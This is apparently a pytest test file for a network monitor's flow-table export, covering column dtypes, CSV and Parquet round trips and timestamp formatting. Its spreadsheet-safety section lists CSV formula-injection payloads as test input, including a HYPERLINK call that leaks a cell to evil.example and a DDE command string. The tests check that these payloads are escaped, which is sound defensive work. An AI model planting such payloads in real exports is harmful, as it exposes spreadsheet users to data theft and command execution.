"""The flow table: explicit dtypes, CSV and Parquet round trips, suffix checks."""

from __future__ import annotations

from pathlib import Path

import pandas as pd
import pytest

from monitor.report import write_flows
from monitor.report.flows_table import FLOW_DTYPES, flows_frame, read_flows
from tests.unit.report_samples import sample_flows

COLUMNS = [
    "uid", "proto", "orig_addr", "orig_port", "resp_addr", "resp_port", "first_ts", "last_ts",
    "first_time", "last_time", "duration", "orig_pkts", "orig_bytes", "resp_pkts",
    "resp_bytes", "state", "verdict", "device", "peer", "peer_name", "query_name", "vendor",
    "endpoint", "end_reason", "findings", "ja3", "ja3s", "ja4", "cert_subject", "cert_names",
    "cert_issuer", "cert_not_after", "cert_sha256", "community_id",
]  # fmt: skip
INTS = ["orig_port", "resp_port", "orig_pkts", "orig_bytes", "resp_pkts", "resp_bytes"]
FLOATS = ["first_ts", "last_ts", "duration", "cert_not_after"]


def _check_dtypes(frame: pd.DataFrame) -> None:
    assert list(frame.columns) == COLUMNS
    for name in COLUMNS:
        if name in INTS:
            assert frame[name].dtype == "int64", name
        elif name in FLOATS:
            assert frame[name].dtype == "float64", name
        else:
            assert isinstance(frame[name].dtype, pd.StringDtype), name


def test_frame_values_and_dtypes() -> None:
    frame = flows_frame(sample_flows())
    _check_dtypes(frame)
    assert len(frame) == 2
    cloud = frame.iloc[1]
    assert cloud["duration"] == pytest.approx(2.25)
    assert cloud["verdict"] == "vendor_cloud" and cloud["end_reason"] == "end_of_input"
    assert cloud["findings"] == "vendor_cloud,egress"
    assert cloud["resp_bytes"] == 4_999_100
    internal = frame.iloc[0]
    assert pd.isna(internal["peer_name"]) and internal["findings"] == ""


def test_empty_frame_keeps_columns_and_dtypes() -> None:
    frame = flows_frame([])
    assert frame.empty
    _check_dtypes(frame)


@pytest.mark.parametrize("suffix", [".csv", ".parquet"])
def test_round_trip(tmp_path: Path, suffix: str) -> None:
    path = tmp_path / f"flows{suffix}"
    write_flows(sample_flows(), path)
    back = read_flows(path)
    _check_dtypes(back)
    pd.testing.assert_frame_equal(back, flows_frame(sample_flows()))


def test_csv_is_plain_for_any_reader(tmp_path: Path) -> None:
    path = tmp_path / "flows.csv"
    write_flows(sample_flows(), path)
    plain = pd.read_csv(path)  # no dtype hints: numbers still come back as numbers
    assert list(plain.columns) == COLUMNS
    assert plain["resp_bytes"].dtype == "int64" and plain["first_ts"].dtype == "float64"
    assert plain["first_ts"].iloc[1] == 1_714_564_820.0


def test_parquet_keeps_dtypes_without_hints(tmp_path: Path) -> None:
    path = tmp_path / "flows.parquet"
    write_flows(sample_flows(), path)
    plain = pd.read_parquet(path)
    _check_dtypes(plain)
    assert FLOW_DTYPES["first_ts"] == "float64"


@pytest.mark.parametrize("name", ["flows.json", "flows", "flows.csv.gz"])
def test_unknown_suffix_is_rejected(tmp_path: Path, name: str) -> None:
    path = tmp_path / name
    with pytest.raises(ValueError) as err:
        write_flows(sample_flows(), path)
    assert str(path) in str(err.value)
    assert ".csv" in str(err.value) and ".parquet" in str(err.value)
    assert not path.exists()


# --- spreadsheet safety, ISO times, query_name (issue 10, point 8) ---------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


def _hostile() -> list:  # type: ignore[type-arg]
    flows = sample_flows()
    cloud = flows[1]
    cloud.peer_name = FORMULAS[0]
    cloud.query_name = FORMULAS[1]
    cloud.vendor, cloud.endpoint, cloud.state = FORMULAS[2], FORMULAS[3], FORMULAS[4]
    cloud.device = FORMULAS[5]
    flows[0].peer_name = "'quoted.example"  # a name that starts with the escape itself
    return flows


def test_csv_cells_cannot_start_a_formula(tmp_path: Path) -> None:
    path = tmp_path / "flows.csv"
    write_flows(_hostile(), path)
    plain = pd.read_csv(path, dtype=str, keep_default_na=False)  # what a spreadsheet gets
    for name in plain.columns:
        for cell in plain[name]:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
    cloud = plain.iloc[1]
    assert cloud["peer_name"] == "'" + FORMULAS[0]
    assert cloud["query_name"] == "'" + FORMULAS[1]
    assert cloud["device"] == "'" + FORMULAS[5]
    assert plain.iloc[0]["peer_name"] == "''quoted.example"
    assert cloud["resp_addr"] == "203.0.113.5" and cloud["findings"] == "vendor_cloud,egress"


def test_csv_escape_comes_off_again_and_parquet_keeps_raw_values(tmp_path: Path) -> None:
    flows = _hostile()
    csv, parquet = tmp_path / "flows.csv", tmp_path / "flows.parquet"
    write_flows(flows, csv)
    write_flows(flows, parquet)
    raw = flows_frame(flows)
    pd.testing.assert_frame_equal(read_flows(csv), raw)
    assert pd.read_parquet(parquet)["peer_name"].iloc[1] == FORMULAS[0]
    pd.testing.assert_frame_equal(pd.read_parquet(parquet), raw)


def test_iso_columns_beside_epoch_ones_and_duration_in_microseconds(tmp_path: Path) -> None:
    flows = sample_flows()
    flows[1].first_ts = 1_714_564_820.123456
    flows[1].last_ts = flows[1].first_ts + 0.1 + 0.2  # 0.30000000000000004 in floats
    path = tmp_path / "flows.csv"
    write_flows(flows, path)
    header = path.read_text().splitlines()[0].split(",")
    assert header[header.index("first_ts") : header.index("duration") + 1] == [
        "first_ts", "last_ts", "first_time", "last_time", "duration",
    ]  # fmt: skip
    plain = pd.read_csv(path)
    assert list(plain["first_time"]) == [
        "2024-05-01T12:00:00.000000Z",
        "2024-05-01T12:00:20.123456Z",
    ]
    assert plain["last_time"].iloc[1] == "2024-05-01T12:00:20.423456Z"
    assert plain["last_time"].iloc[0] == "2024-05-01T12:01:00.500000Z"
    durations = [
        line.split(",")[header.index("duration")] for line in path.read_text().splitlines()[1:]
    ]
    assert durations == ["60.5", "0.3"]


def test_query_name_is_its_own_column() -> None:
    flows = sample_flows()
    flows[0].query_name = "dev.hik-connect.com"
    frame = flows_frame(flows)
    assert frame["query_name"].iloc[0] == "dev.hik-connect.com"
    assert pd.isna(frame["peer_name"].iloc[0])
    assert pd.isna(frame["query_name"].iloc[1])
